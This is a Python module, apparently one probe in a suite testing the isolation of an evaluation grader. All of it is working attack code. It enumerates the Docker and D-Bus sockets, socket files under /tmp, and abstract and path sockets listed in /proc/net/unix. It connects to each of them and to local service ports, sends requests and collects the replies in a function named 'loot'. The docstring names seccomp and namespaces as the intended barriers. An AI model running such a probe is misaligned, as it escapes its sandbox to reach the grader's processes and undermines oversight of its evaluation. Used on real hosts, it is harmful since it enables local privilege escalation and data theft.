"""Ask whoever listens: abstract sockets, path sockets, the zygote's and the markers' lines.

stopped by: seccomp, namespaces
proof: databases, agents and desktops of the grader's user answer to any process of that user
"""

import glob
import socket

PATHS = ("/run/docker.sock", "/var/run/docker.sock", "/run/dbus/system_bus_socket")


def names():
    yield from PATHS
    yield from glob.glob("/tmp/**/*sock*", recursive=True)
    try:
        with open("/proc/net/unix") as file:
            for line in file:
                name = line.split()[-1]
                if name.startswith(("@", "/")):
                    yield name.replace("@", "\0", 1)
    except OSError:
        yield from (f"\0grader-attacks-{number}" for number in range(1, 200))


def loot(places):
    found = []
    for name in names():
        try:
            with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as line:
                line.settimeout(0.05)
                line.connect(name)
                line.sendall(b"GET / HTTP/1.0\r\n\r\n")
                found.append(line.recv(1 << 16))
        except OSError:
            pass
    for port in (22, 80, 443, 5432, 6379, 8080, 8888):
        try:
            with socket.create_connection(("127.0.0.1", port), 0.05) as line:
                found.append(line.recv(1 << 12))
        except OSError:
            pass
    return b"\n".join(found)
